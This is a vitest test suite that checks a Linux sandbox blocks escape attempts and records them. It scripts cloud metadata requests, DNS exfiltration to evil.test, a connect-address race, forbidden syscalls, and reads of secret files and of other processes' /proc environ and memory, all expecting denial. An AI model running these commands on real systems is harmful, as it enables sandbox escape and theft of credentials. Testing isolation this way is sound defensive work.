import { spawnSync } from 'node:child_process';
import { chmodSync, chownSync, existsSync, mkdirSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { type AddressInfo, createServer as createRaw, type Server as RawServer } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { deniesNamespaces, type Ended, Stage, USERS_AT_LENGTH } from './kit/stage.js';

vi.setConfig({ hookTimeout: 240_000, testTimeout: 240_000 });

const EPERM = 1;
const why = whyNotNamed();
const absent = why === undefined ? '' : ` (not here: ${why})`;

/** Why this machine has no such worlds: Landlock is younger than namespaces. */
function whyNotNamed(): string | undefined {
  if (process.platform !== 'linux') return 'this is no Linux';
  const asked = spawnSync('/usr/bin/perl', ['-e', 'exit(syscall(444, 0, 0, 1) > 0 ? 0 : 1)']);
  return asked.status === 0 ? deniesNamespaces(EPERM) : 'the kernel has no Landlock';
}

interface Attack {
  readonly name: string;
  readonly script: string;
  /** It prints this where it is held, and nothing that tells of success. */
  readonly says: RegExp;
  /** A destination that the record has to name. */
  readonly recorded?: string;
}

const python = (text: string): string => `/usr/bin/python3 -c '${text.replaceAll("'", `'"'"'`)}'`;
const tryIt = (body: string): string =>
  `import socket, ctypes, os\ntry:\n  ${body.replaceAll('\n', '\n  ')}\nexcept OSError as error:\n  print("ERROR", error.errno)`;
const systemCall = (number: number, ...args: readonly (number | string)[]): string =>
  python(
    `import ctypes\nc = ctypes.CDLL(None, use_errno=True)\nr = c.syscall(${[number, ...args].join(', ')})\nprint("RESULT", r if r < 0 else "DONE", ctypes.get_errno())`,
  );
const isX64 = process.arch === 'x64';

const NETWORK: readonly Attack[] = [
  {
    name: 'an address that no name leads to',
    script: 'curl -sm3 http://93.184.216.34/',
    says: /not_allowed|403/,
    recorded: '93.184.216.34:80',
  },
  {
    name: 'the metadata service',
    script: 'curl -sm3 http://169.254.169.254/latest/meta-data/',
    says: /address_refused|not_allowed/,
    recorded: '169.254.169.254:80',
  },
  {
    name: 'TLS to an address at any port',
    script: 'curl -skm3 https://1.1.1.1:8443/; echo "rc $?"',
    says: /^rc (?:35|56|52)$/m,
    recorded: '1.1.1.1:8443',
  },
  {
    name: 'a name that is not listed',
    script: 'getent hosts evil.test; echo "rc $?"',
    says: /^rc 2$/m,
    recorded: 'evil.test',
  },
  {
    name: 'data in a name',
    script: 'getent hosts c2VjcmV0.evil.test; echo "rc $?"',
    says: /^rc 2$/m,
    recorded: 'c2vjcmv0.evil.test',
  },
  {
    name: 'a service of the machine on loopback',
    script: 'curl -sm3 http://127.0.0.1:SERVICE/',
    says: /not_allowed|address_refused|403/,
    recorded: '127.0.0.1:SERVICE',
  },
  {
    name: 'a socket that does not wait',
    script: python(
      tryIt(
        's = socket.socket()\ns.setblocking(False)\nprint(s.connect_ex(("9.9.9.9", 81)))\ns.setblocking(True)\ns.settimeout(3)\ns.send(b"GET / HTTP/1.0\\r\\n\\r\\n")\nprint("ANSWER", s.recv(12))',
      ),
    ),
    says: /ANSWER b.HTTP\/1.1 403/,
    recorded: '9.9.9.9:81',
  },
  {
    name: 'another name server by TCP, which only the gateway answers',
    script: python(
      tryIt(
        's = socket.create_connection(("8.8.8.8", 53), 3)\nq = bytes.fromhex("000101000001000000000000046576696c04746573740000010001")\ns.send(len(q).to_bytes(2, "big") + q)\nr = s.recv(99)\nprint("CODE", r[5] & 15)',
      ),
    ),
    says: /CODE 3/,
  },
  {
    name: 'no question about a name',
    script: python(
      tryIt(
        's = socket.create_connection(("8.8.8.8", 53), 3)\ns.send(bytes(2) * 9)\nprint("GOT", s.recv(9))',
      ),
    ),
    says: /GOT b''|ERROR/,
  },
  {
    name: 'UDP that is connected',
    script: python(
      tryIt(
        's = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(("8.8.8.8", 53))\nprint("MADE")',
      ),
    ),
    says: /ERROR 1\b/,
  },
  {
    name: 'a raw socket',
    script: python(tryIt('socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\nprint("MADE")')),
    says: /ERROR 1\b/,
  },
  {
    name: 'IPv6',
    script: python(tryIt('socket.socket(socket.AF_INET6, socket.SOCK_STREAM)\nprint("MADE")')),
    says: /ERROR 97/,
  },
  {
    name: 'MPTCP',
    script: python(tryIt('socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)\nprint("MADE")')),
    says: /ERROR 93/,
  },
  ...['AF_PACKET', 'AF_NETLINK', 'AF_VSOCK', 'AF_ALG'].map((family) => ({
    name: `a socket of ${family}`,
    script: python(tryIt(`socket.socket(socket.${family}, socket.SOCK_RAW)\nprint("MADE")`)),
    says: /ERROR 97/,
  })),
  {
    name: 'a first packet that connects (sendto)',
    script: python(tryIt('s = socket.socket()\nprint("SENT", s.sendto(b"x", 0x20000000, ("1.2.3.4", 82)))')),
    says: /ERROR 1\b/,
  },
  {
    name: 'a first packet that connects (sendmsg)',
    script: python(
      tryIt('s = socket.socket()\nprint("SENT", s.sendmsg([b"x"], [], 0x20000000, ("1.2.3.4", 82)))'),
    ),
    says: /ERROR 1\b/,
  },
  {
    name: 'a first packet that connects, in an option',
    script: python(
      tryIt(
        's = socket.socket()\ns.settimeout(3)\ns.setsockopt(6, 30, 1)\ns.connect(("7.7.7.7", 83))\ns.send(b"GET / HTTP/1.0\\r\\n\\r\\n")\nprint("ANSWER", s.recv(12))',
      ),
    ),
    says: /ANSWER b.HTTP\/1.1 403/,
    recorded: '7.7.7.7:83',
  },
  {
    name: 'a server that others reach',
    script: python(tryIt('s = socket.socket()\ns.listen(1)\nprint("BOUND", s.getsockname())')),
    says: /ERROR 1\b/,
  },
  {
    name: 'an agent of keys in the project itself',
    script: 'curl -sm3 --unix-socket ./agent.sock http://x/; echo "rc $?"',
    says: /^rc 7$/m,
  },
  {
    name: 'the socket of the gateway',
    script: 'curl -sm3 --unix-socket GATEWAY http://x/; echo "rc $?"',
    says: /^rc 7$/m,
  },
  {
    name: 'a socket without a path',
    script: python(tryIt('s = socket.socket(socket.AF_UNIX)\ns.connect("\\0sub-named-test")\nprint("MADE")')),
    says: /ERROR 13/,
  },
  {
    name: 'words to a service by a datagram',
    script: python(tryIt('socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\nprint("MADE")')),
    says: /ERROR 1\b/,
  },
  {
    name: 'a pair of datagrams, which could send to others',
    script: python(tryIt('socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\nprint("MADE")')),
    says: /ERROR 1\b/,
  },
  {
    name: 'another place of the socket while it is asked for',
    script: python(`import socket, threading, ctypes
c = ctypes.CDLL(None)
place = ctypes.create_string_buffer(16)
good = bytes([2, 0]) + (HTTP).to_bytes(2, "big") + socket.inet_aton(socket.gethostbyname("allowed.test")) + bytes(8)
bad = bytes([2, 0]) + (SERVICE).to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
on = True
def flip():
  while on:
    ctypes.memmove(place, bad, 16)
    ctypes.memmove(place, good, 16)
threading.Thread(target=flip, daemon=True).start()
heard = b""
for _ in range(200):
  s = socket.socket()
  s.settimeout(5)
  if c.connect(s.fileno(), place, 16) == 0:
    try:
      s.send(b"GET / HTTP/1.0\\r\\nHost: allowed.test:PLACE\\r\\n\\r\\n")
      heard += s.recv(999)
    except OSError: pass
  s.close()
on = False
print("FOUND" if b"of the machine" in heard else "held", b"the allowed" in heard)`),
    says: /^held True/m,
  },
];

const KERNEL: readonly Attack[] = [
  ...(isX64
    ? [
        ['io_uring_setup', 425],
        ['ptrace', 101],
        ['pidfd_getfd', 438],
        ['process_vm_readv', 310],
        ['bpf', 321],
        ['shmget', 29],
        ['msgget', 68],
        ['mq_open', 240],
        ['mount', 165],
        ['unshare', 272],
      ]
    : [
        ['io_uring_setup', 425],
        ['ptrace', 117],
        ['pidfd_getfd', 438],
      ]
  ).map(([name, number]) => ({
    name: `the system call ${name}`,
    script: systemCall(Number(number), 0, 0, 0, 0, 0),
    says: /RESULT -1 1\b/,
  })),
  {
    name: 'a secret of the home',
    script: 'cat SECRET; ls BESIDE; head -c 9 /proc/self/root/SECRET; echo "rc $?"',
    says: /^rc 1$/m,
  },
  {
    name: 'a link to it',
    script: 'ln -s SECRET s; cat s; ln SECRET h; cat h; echo "rc $?"',
    says: /^rc 1$/m,
  },
  {
    name: 'another mode for it',
    script: 'chmod 0666 SECRET; touch -d 2001-01-01 SECRET; truncate -s 0 SECRET; echo "rc $?"',
    says: /^rc 1$/m,
  },
  {
    name: 'another mode for it, by a link and by its folder',
    script: python(
      tryIt(
        'os.symlink("SECRET", "m")\nd = os.open("BESIDE", os.O_PATH)\nos.chmod("secret", 0o666, dir_fd=d)\nprint("SET")',
      ),
    ),
    says: /ERROR 1\b/,
  },
  {
    name: 'another length for it',
    script: python(tryIt('os.truncate("SECRET", 0)\nprint("SET")')),
    says: /ERROR (?:1|13)\b/,
  },
  {
    name: 'an owner',
    script: python(tryIt('os.chown("SECRET", os.getuid(), os.getgid())\nprint("SET")')),
    says: /ERROR 1\b/,
  },
  {
    name: 'attributes',
    script: python(tryIt('os.setxattr("SECRET", "user.x", b"y")\nprint("SET")')),
    says: /ERROR 95/,
  },
  {
    name: 'a file beside the project',
    script: 'echo x > BESIDE/made; mv s BESIDE/moved; echo x > /tmp/sub-named; echo "rc $?"',
    says: /^rc [12]$/m,
  },
  {
    name: 'the processes of its user outside',
    script:
      'kill -0 OUTSIDE; cat /proc/OUTSIDE/environ; ls /proc/OUTSIDE/fd /proc/OUTSIDE/cwd/; echo "rc $?"',
    says: /^rc [12]$/m,
  },
  {
    name: 'the memory of whoever answers for it',
    script:
      'p=$(ps -o ppid= $$ | tr -d " "); q=$(awk "{print \\$4}" /proc/$p/stat); cat /proc/$p/environ /proc/$q/environ; ls /proc/$q/fd; (exec 3< /proc/$q/mem) && echo OPEN; echo none',
    says: /^none$/m,
  },
  {
    name: 'limits of other processes',
    script: python(
      'import resource\ntry:\n  resource.prlimit(OUTSIDE, resource.RLIMIT_NOFILE, (9, 9))\n  print("SET")\nexcept PermissionError: print("ERROR 1")',
    ),
    says: /ERROR 1\b/,
  },
  {
    name: 'the place of other processes in the queue',
    script: 'renice -n 19 -p OUTSIDE; renice -n 19 -u $(id -u); taskset -p 1 OUTSIDE; ps -o ni= -p OUTSIDE',
    says: /not permitted[^]*not permitted[^]*not permitted[^]*^ *0$/m,
  },
  {
    name: 'a lease, for which whoever answers for it would wait',
    script: python(
      tryIt('import fcntl\nf = os.open("leased", os.O_CREAT)\nfcntl.fcntl(f, 1024, 1)\nprint("SET")'),
    ),
    says: /ERROR 1\b/,
  },
  {
    name: 'a file that runs as its owner',
    script: 'cp /bin/true t; chmod 4755 t; echo "rc $?"',
    says: /^rc 1$/m,
  },
  { name: 'more rights', script: 'grep NoNewPrivs /proc/self/status; id -u', says: /NoNewPrivs:\s+1\n[1-9]/ },
  { name: 'the terminals of others', script: 'ls /dev/pts; cat /dev/ptmx; echo "rc $?"', says: /^rc 1$/m },
  {
    name: 'memory that others share',
    script: 'echo x > /dev/shm/sub-named; echo "rc $?"',
    says: /^rc [12]$/m,
  },
  {
    name: 'the system’s files',
    script: 'touch /usr/x /etc/x; ls /root /home /var; echo "rc $?"',
    says: /^rc [1-9]$/m,
  },
  {
    name: 'files that were open in whoever started it',
    script: 'ls /proc/self/fd | sort -n | tr "\\n" " "',
    says: /^0 1 2 3 $/m,
  },
];

const ALL = [...NETWORK, ...KERNEL];
const SUCCESS = /FOUND|BOUND|MADE|\bSET\b|SENT|OPEN\b|RESULT DONE|canary|of the machine|the secret/;

describe.skipIf(why !== undefined)(`a world without namespaces${absent}`, () => {
  describe.each(USERS_AT_LENGTH)('that is started by %s', (_, uid) => {
    let stage: Stage;
    let [server, service]: (Server | undefined)[] = [];
    let agent: RawServer;
    let abstract: RawServer;
    let said: ReadonlyMap<string, string>;
    let ports: { readonly http: number; readonly service: number };
    let ended: Ended;
    const listening = async (words: string): Promise<Server> => {
      const made = createServer((_request, response) => response.end(words));
      await new Promise<void>((resolve) => made.listen(0, '127.0.0.1', resolve));
      return made;
    };
    const portOf = (one: Server): number => (one.address() as AddressInfo).port;
    const filled = (text: string): string =>
      text
        .replaceAll('SERVICE', String(ports.service))
        .replaceAll('HTTP)', `${ports.http})`)
        .replaceAll('PLACE', String(ports.http))
        .replaceAll('GATEWAY', join(stage.home, 'run/gateway.sock'))
        .replaceAll('SECRET', join(stage.root, 'beside/secret'))
        .replaceAll('BESIDE', join(stage.root, 'beside'))
        .replaceAll('OUTSIDE', String(stage.gatewayPid));

    beforeAll(async () => {
      [server, service] = [
        await listening('the allowed server'),
        await listening('a service of the machine'),
      ];
      ports = { http: portOf(server), service: portOf(service) };
      stage = new Stage(uid, { deniesNamespaces: EPERM, settings: '[world]\nrequire = "named"\n' });
      const beside = join(stage.root, 'beside');
      mkdirSync(beside);
      writeFileSync(join(beside, 'secret'), 'the secret');
      chmodSync(stage.root, 0o755);
      const owner = uid ?? 1000;
      for (const path of [stage.project, beside, join(beside, 'secret')]) chownSync(path, owner, owner);
      agent = createRaw((socket) => socket.end('HTTP/1.0 200 OK\r\n\r\nMADE')).listen(
        join(stage.project, 'agent.sock'),
      );
      abstract = createRaw((socket) => socket.end('MADE')).listen('\0sub-named-test');
      await stage.start({ 'allowed.test': [{ port: ports.http }] });
      const script = ALL.map(
        ({ script: one }, at) => `printf "\\n=== ${at}\\n"; ( ${filled(one)} ) 2>&1`,
      ).join('\n');
      ended = await stage.inWorld(
        `${script}\nprintf "\\n=== end\\n"; curl -sm3 http://allowed.test:${ports.http}/`,
      );
      const parts = ended.stdout.split(/^=== (\d+|end)\n/m).slice(1);
      said = new Map(parts.flatMap((key, at) => (at % 2 === 0 ? [[key, parts[at + 1] ?? ''] as const] : [])));
      if (said.size < ALL.length)
        throw new Error(`the world ended early: ${ended.code} ${ended.stderr} ${ended.stdout.slice(-500)}`);
    });
    afterAll(async () => {
      await stage.remove();
      for (const one of [server, service, agent, abstract]) one?.close();
    });

    it.each(ALL.map((attack, at) => [attack.name, attack, at] as const))(
      'holds against %s',
      (_name, attack, at) => {
        const text = said.get(String(at)) ?? '';
        expect(text).toMatch(attack.says);
        expect(text).not.toMatch(SUCCESS);
      },
    );

    it.each(
      NETWORK.flatMap(({ name, recorded }) => (recorded === undefined ? [] : [[name, recorded] as const])),
    )('records %s with its destination', (_name, destination) => {
      const places = stage.rows().flatMap(({ type, data }) => {
        const { facts } = data as { facts?: { host?: string; port?: number } };
        return type !== 'action_rejected' || facts === undefined
          ? []
          : [`${facts.host}:${facts.port}`, String(facts.host)];
      });
      expect(places).toContain(filled(destination));
    });

    it('still reaches what is allowed, by its name, behind all of them', () => {
      expect(said.get('end')).toBe('the allowed server');
    });

    it('looks up no name that is not listed', async () => {
      expect(new Set(await stage.resolved())).toEqual(new Set(['allowed.test']));
    });

    it('leaves what is beside its project as it was', () => {
      const secret = statSync(join(stage.root, 'beside/secret'));
      expect([secret.mode & 0o7777, secret.size, secret.mtimeMs > Date.parse('2020-01-01')]).toEqual([
        0o644,
        10,
        true,
      ]);
      expect(readdirSync(join(stage.root, 'beside'))).toEqual(['secret']);
      expect(existsSync('/tmp/sub-named')).toBe(false);
    });

    it('says what it is, and the record does', () => {
      expect(ended.stderr).toContain('sub: this world has the network `named`');
      const begins = stage.rows().filter(({ type }) => type === 'world_begin');
      expect(begins.map(({ data }) => data)).toContainEqual(
        expect.objectContaining({
          network: 'named',
          shortfall: expect.stringContaining('unshare: Operation not permitted (a filter of system calls'),
        }),
      );
    });

    it.each([
      ['curl', 'curl -sm9 http://allowed.test:PORT/'],
      [
        'the fetch of Node',
        `node -e 'fetch("http://allowed.test:PORT/").then((r) => r.text()).then((t) => process.stdout.write(t))'`,
      ],
      [
        'urllib of Python',
        `/usr/bin/python3 -c 'import urllib.request as u; print(u.urlopen("http://allowed.test:PORT/").read().decode(), end="")'`,
      ],
      [
        'Perl',
        `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("allowed.test:PORT") or die; print $s "GET / HTTP/1.0\\r\\nHost: allowed.test:PORT\\r\\n\\r\\n"; $_ = join "", <$s>; s/.*\\r\\n//s; print'`,
      ],
    ])('lets %s reach a server by its name', async (_name, script) => {
      const { stdout, stderr } = await stage.inWorld(script.replaceAll('PORT', String(ports.http)));
      expect([stdout, stderr.includes('error')]).toEqual(['the allowed server', false]);
      const connects = stage
        .rows()
        .filter(({ data }) => (data as { facts?: { via?: string } }).facts?.via === 'world');
      expect(connects.length).toBeGreaterThan(0);
    });

    it('works on its files as one works outside', async () => {
      const script = `set -e
mkdir -p d && echo text > d/f && chmod 750 d/f && mv d/f g && cp -p g h && touch -d 2001-01-01 h && truncate -s 2 g
test "$(stat -c '%a %s' g)" = "750 2" && test "$(stat -c %Y h)" = 978307200
cd d && chmod 700 ../g && test "$(stat -c %a ../g)" = 700 && cd ..
git init -q repository && cd repository && git config user.name x && git config user.email x@x && echo a > a
git add a && git commit -qm a && cd .. && tar cf t.tar repository && mkdir out && tar xf t.tar -C out
echo x > "$HOME/own" && echo x > "$TMPDIR/own" && echo done`;
      const { code, stdout, stderr } = await stage.inWorld(script);
      expect([code, stdout, stderr.replaceAll(/^sub: .*\n/gm, '')]).toEqual([0, 'done\n', '']);
    });

    it('ends with its program, and everything that it started does', async () => {
      const script = `(setsid sh -c 'sleep 977 & sleep 977' &); sleep 977 & echo "$HOME"; exit 7`;
      const { code, stdout } = await stage.inWorld(script);
      expect(code).toBe(7);
      expect(spawnSync('pgrep', ['-f', 'sleep 977'], { encoding: 'utf8' }).stdout).toBe('');
      expect(existsSync(stdout.trim())).toBe(false);
    });

    it('hands a signal on to its program', async () => {
      const script = 'trap "echo HEARD; exit 3" TERM; echo up; sleep 20 & wait';
      const { code, stdout } = await stage.signalled('SIGTERM', script);
      expect([code, stdout]).toEqual([3, 'up\nHEARD\n']);
    });

    it('answers as a shell does where there is no program', async () => {
      expect((await stage.sub('world', 'exec', '--write-through', '--', '/nowhere/program')).code).toBe(127);
    });
  });
});
